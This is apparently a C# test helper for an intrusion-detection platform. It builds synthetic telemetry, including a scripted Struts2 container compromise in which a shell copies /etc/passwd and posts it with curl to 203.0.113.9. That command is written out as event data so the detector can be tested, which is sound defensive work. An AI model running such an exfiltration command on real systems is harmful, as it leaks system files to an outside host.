using Microsoft.Extensions.DependencyInjection;
using Platform.Api.Incidents;
using Platform.Contracts;
using Platform.Tests.Infrastructure;

namespace Platform.Tests.Incidents;

/// <summary>One enrolled agent pushing hand-made flight data, and what detection made of it.</summary>
public sealed class IncidentScenario(PlatformApi api, PlatformClient agent, string agentId)
{
    public static readonly DateTimeOffset T0 = new(2026, 11, 22, 10, 0, 0, TimeSpan.Zero);

    public static readonly ContainerRef Web = new() { Id = "7f9c2ba4e88f", Name = "struts2-web", Image = "struts2-showcase:2.3.12" };

    private long _sequence;
    private int _id;

    public string AgentId => agentId;

    public PlatformClient Agent => agent;

    public static async Task<IncidentScenario> StartAsync(PlatformApi api, string? hostname = null)
    {
        var (agent, enrolled) = await api.EnrolledAgent(hostname ?? "web-" + Guid.NewGuid().ToString("N")[..8], new Dictionary<string, string> { ["role"] = "app" });
        return new IncidentScenario(api, agent, enrolled.Agent.Id);
    }

    /// <summary>Pushes the events as the agent's next batch and waits until detection has seen it.</summary>
    public async Task PushAsync(params TelemetryEvent[] events)
    {
        var sequence = ++_sequence;
        await agent.PushTelemetryAsync(new TelemetryBatch { Id = $"b-{sequence}", Sequence = sequence, Events = events }, agentId);
        await DetectAsync(api);
    }

    /// <summary>Pushes the events as the agent's batch <paramref name="sequence"/> (batches may come in any order) and waits until detection has seen it.</summary>
    public async Task PushBatchAsync(long sequence, params TelemetryEvent[] events)
    {
        await agent.PushTelemetryAsync(new TelemetryBatch { Id = $"b-{sequence}", Sequence = sequence, Events = events }, agentId);
        await DetectAsync(api);
    }

    public static Task DetectAsync(PlatformApi api) => api.Services.GetRequiredService<IncidentDetector>().DrainAsync(CancellationToken.None);

    public async Task<List<Incident>> IncidentsAsync(IncidentCategory? category = null)
    {
        var page = await api.Admin().ListIncidentsAsync(limit: 200, agentId: agentId, category: category is { } c ? [c] : null);
        return page.Items.ToList();
    }

    public async Task<List<IncidentFinding>> FindingsAsync(Incident incident) => (await api.Admin().ListIncidentFindingsAsync(incident.Id, 200)).Items.ToList();

    private string Next(string prefix) => $"{prefix}-{++_id}";

    public ProcessStartEvent Start(DateTimeOffset time, int pid, int ppid, string name, string? parent = null, string[]? args = null, ContainerRef? container = null, string? executable = null, string? cwd = null,
        string? interpreter = null, ProcessStdio? stdio = null) => new()
    {
        Id = Next("p"), Time = time, Container = container, ProcessName = name, Pid = pid, Ppid = ppid, ParentProcessName = parent,
        Executable = executable ?? "/usr/bin/" + name, Args = args ?? [name], User = "app", Uid = 1000, Cwd = cwd, Interpreter = interpreter, Stdio = stdio,
    };

    public FileAccessEvent File(DateTimeOffset time, int pid, string name, string path, FimOperation operation, ContainerRef? container = null) => new()
    {
        Id = Next("f"), Time = time, Container = container, ProcessName = name, Pid = pid, Path = path, Operation = operation,
    };

    public NetworkConnectEvent Connect(DateTimeOffset time, int pid, string name, string address, int port, ContainerRef? container = null,
        NetworkDirection? direction = null, ConnectResult? result = null) => new()
    {
        Id = Next("c"), Time = time, Container = container, ProcessName = name, Pid = pid, Protocol = NetworkProtocol.Tcp, RemoteAddress = address, RemotePort = port,
        Direction = direction, Result = result,
    };

    public DnsQueryEvent Dns(DateTimeOffset time, int pid, string name, string query) => new()
    {
        Id = Next("d"), Time = time, ProcessName = name, Pid = pid, Name = query, Answers = ["198.51.100.7"],
    };

    /// <summary>The seed scenario's steps in the container: java -> sh -> cp /etc/passwd, curl to a public address.</summary>
    public TelemetryEvent[] Struts2Compromise(DateTimeOffset at, string destination = "203.0.113.9", string readPath = "/etc/passwd", TimeSpan? curlDelay = null) =>
    [
        Start(at, 4230, 4101, "sh", "java", ["sh", "-c", "cp /etc/passwd /tmp/p && curl -d @/tmp/p http://203.0.113.9/"], Web, "/bin/sh"),
        Start(at.AddMilliseconds(100), 4231, 4230, "cp", "sh", ["cp", readPath, "/tmp/p"], Web, "/bin/cp"),
        File(at.AddMilliseconds(110), 4231, "cp", readPath, FimOperation.Read, Web),
        Start(at.AddMilliseconds(300) + (curlDelay ?? TimeSpan.Zero), 4232, 4230, "curl", "sh", ["curl", "-d", "@/tmp/p", $"http://{destination}/"], Web),
        Connect(at.AddMilliseconds(320) + (curlDelay ?? TimeSpan.Zero), 4232, "curl", destination, 80, Web),
    ];
}
